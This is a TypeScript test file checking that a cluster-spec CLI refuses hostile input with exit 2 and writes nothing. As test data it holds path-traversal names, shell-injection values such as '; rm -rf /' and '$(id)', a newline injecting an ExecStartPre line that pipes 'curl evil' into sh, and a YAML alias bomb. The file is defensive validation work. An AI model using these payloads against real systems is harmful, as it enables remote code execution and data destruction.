// Strict input (issue 12 item 6): each of these specs was accepted, or crashed with exit 1, before.
// Each must now end with exit 2, the field path in the message, no stack trace, and nothing
// written (no --out tree, no pki/, no state next to the spec).
import assert from 'node:assert/strict';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { parseDocument } from 'yaml';
import { maxSpecBytes } from '../../src/spec/cluster.ts';
import { starterSpec } from '../../src/spec/starter.ts';
import { runCli } from '../helpers/run-cli.ts';

let root: string;
before(async () => {
  root = await mkdtemp(join(tmpdir(), 'kw-strict-'));
});
after(() => rm(root, { recursive: true, force: true }));

let n = 0;
/** Writes `text` as the spec of a fresh folder, runs `render` into that folder, and checks the refusal. */
async function assertRefused(text: string, path: string | RegExp, extra: Record<string, string> = {}): Promise<string> {
  const dir = join(root, `case-${n++}`);
  await import('node:fs/promises').then((fs) => fs.mkdir(dir));
  const spec = join(dir, 'cluster.yaml');
  await writeFile(spec, text);
  for (const [name, body] of Object.entries(extra)) await writeFile(join(dir, name), body);
  const r = await runCli('render', '-f', spec, '--out', join(dir, 'out'));
  assert.equal(r.code, 2, `exit code (stderr: ${r.stderr})`);
  if (typeof path === 'string') assert.ok(r.stderr.includes(path), `stderr names ${path}: ${r.stderr}`);
  else assert.match(r.stderr, path);
  assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace');
  assert.doesNotMatch(r.stderr, /unexpected failure/);
  assert.deepEqual((await readdir(dir)).sort(), ['cluster.yaml', ...Object.keys(extra)].sort(), 'nothing written');
  return r.stderr;
}

/** The starter spec with one YAML path set (through the YAML library, so the text stays valid YAML). */
function starterWith(path: (string | number)[], value: unknown): string {
  const doc = parseDocument(starterSpec);
  doc.setIn(path, value);
  return doc.toString();
}

const digitalocean = (namePattern: string): string =>
  starterWith(['provider'], { digitalocean: { domain: 'example.com', namePattern } }).replace(/^# workers: \{ count: 3 \}.*$/m, 'workers: { count: 2 }');

test('a DigitalOcean name pattern that climbs out of --out and pki.dir is refused', async () => {
  await assertRefused(digitalocean('../../{index}'), 'provider.digitalocean.namePattern');
  await assertRefused(digitalocean('w{index}/../../x'), 'provider.digitalocean.namePattern');
});

test('Terraform output names that climb out of --out and pki.dir are refused', async () => {
  const spec = starterWith(['provider'], { terraform: { outputFile: 'tf.json' } });
  const output = (names: string[], ips: string[]): string => JSON.stringify({
    worker_names: { value: names },
    worker_ipv4_addresses: { value: ips },
  });
  const e = await assertRefused(spec, 'worker_names.value.1', { 'tf.json': output(['w0', '../../../etc'], ['192.0.2.1', '192.0.2.2']) });
  assert.match(e, /tf\.json/);
  await assertRefused(spec, 'worker_ipv4_addresses.value.0', { 'tf.json': output(['w0'], ['192.0.2.1; rm -rf /']) });
});

test('static addresses that are neither IPv4 nor a DNS name are refused; private addresses must be IPv4', async () => {
  for (const bad of ['10.0.0.256', '::1', '10.0.0.1 ', '010.0.0.1', '1.2.3', 'a/../b', '$(id)']) {
    await assertRefused(starterWith(['provider', 'static', 'hosts', 0, 'address'], bad), 'provider.static.hosts.0.address');
  }
  await assertRefused(starterWith(['provider', 'static', 'hosts', 1, 'privateAddress'], 'ten.0.0.1'), 'provider.static.hosts.1.privateAddress');
});

test('a newline in privateAddress (an ExecStartPre= line in a unit) is refused', async () => {
  await assertRefused(starterWith(['provider', 'static', 'hosts', 0, 'privateAddress'], '10.0.0.10\nExecStartPre=/bin/sh -c "curl evil|sh"'), 'provider.static.hosts.0.privateAddress');
});

test('$ and % in values systemd expands are refused', async () => {
  for (const bad of ['/flannel.com/$HOME', '/flannel.com/${PATH}', '/flannel%h', '/a b']) {
    await assertRefused(starterWith(['etcd', 'prefix'], bad), 'etcd.prefix');
  }
  await assertRefused(starterWith(['provider', 'static', 'hosts', 0, 'name'], 'w%n'), 'provider.static.hosts.0.name');
  await assertRefused(starterWith(['ssh', 'user'], 'root$(id)'), 'ssh.user');
  await assertRefused(starterWith(['provider', 'static', 'hosts', 0, 'user'], 'a b'), 'provider.static.hosts.0.user');
});

test('versions that become path segments cannot climb out of the cache', async () => {
  await assertRefused(starterWith(['versions'], { docker: '../../../../tmp/x' }), 'versions.docker');
  await assertRefused(starterWith(['versions'], { flannelCniPlugin: 'v1/../../x' }), 'versions.flannelCniPlugin');
});

test('a YAML alias bomb is refused quickly with the alias path', async () => {
  const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < 10; i++) {
    const prev = String.fromCharCode(96 + i);
    const cur = String.fromCharCode(97 + i);
    levels.push(`${cur}: &${cur} [${Array(9).fill(`*${prev}`).join(',')}]`);
  }
  const started = Date.now();
  await assertRefused(`${starterSpec}x-bomb:\n${levels.map((l) => `  ${l}`).join('\n')}\n`, /x-bomb\.c\.0: YAML alias \*b points at a node that holds aliases itself/);
  assert.ok(Date.now() - started < 5_000, 'refused without expanding the bomb');
});

test('an unresolved YAML alias is refused with exit 2, not as an unexpected failure', async () => {
  await assertRefused(starterSpec.replace('clusterDomain: cluster.local', 'clusterDomain: *nowhere'), /kubernetes\.clusterDomain: .*alias \*nowhere/);
});

test('a spec file larger than the cap is refused before it is parsed', async () => {
  const big = `${starterSpec}# ${'x'.repeat(maxSpecBytes)}\n`;
  await assertRefused(big, /cluster\.yaml: invalid cluster spec\n\s+\(file\): is larger than/);
});

test('the starter spec itself still renders (the checks above refuse only bad input)', async () => {
  const dir = join(root, 'good');
  await import('node:fs/promises').then((fs) => fs.mkdir(dir));
  await writeFile(join(dir, 'cluster.yaml'), starterSpec);
  const r = await runCli('render', '-f', join(dir, 'cluster.yaml'), '--out', join(dir, 'out'));
  assert.equal(r.code, 0, r.stderr);
});
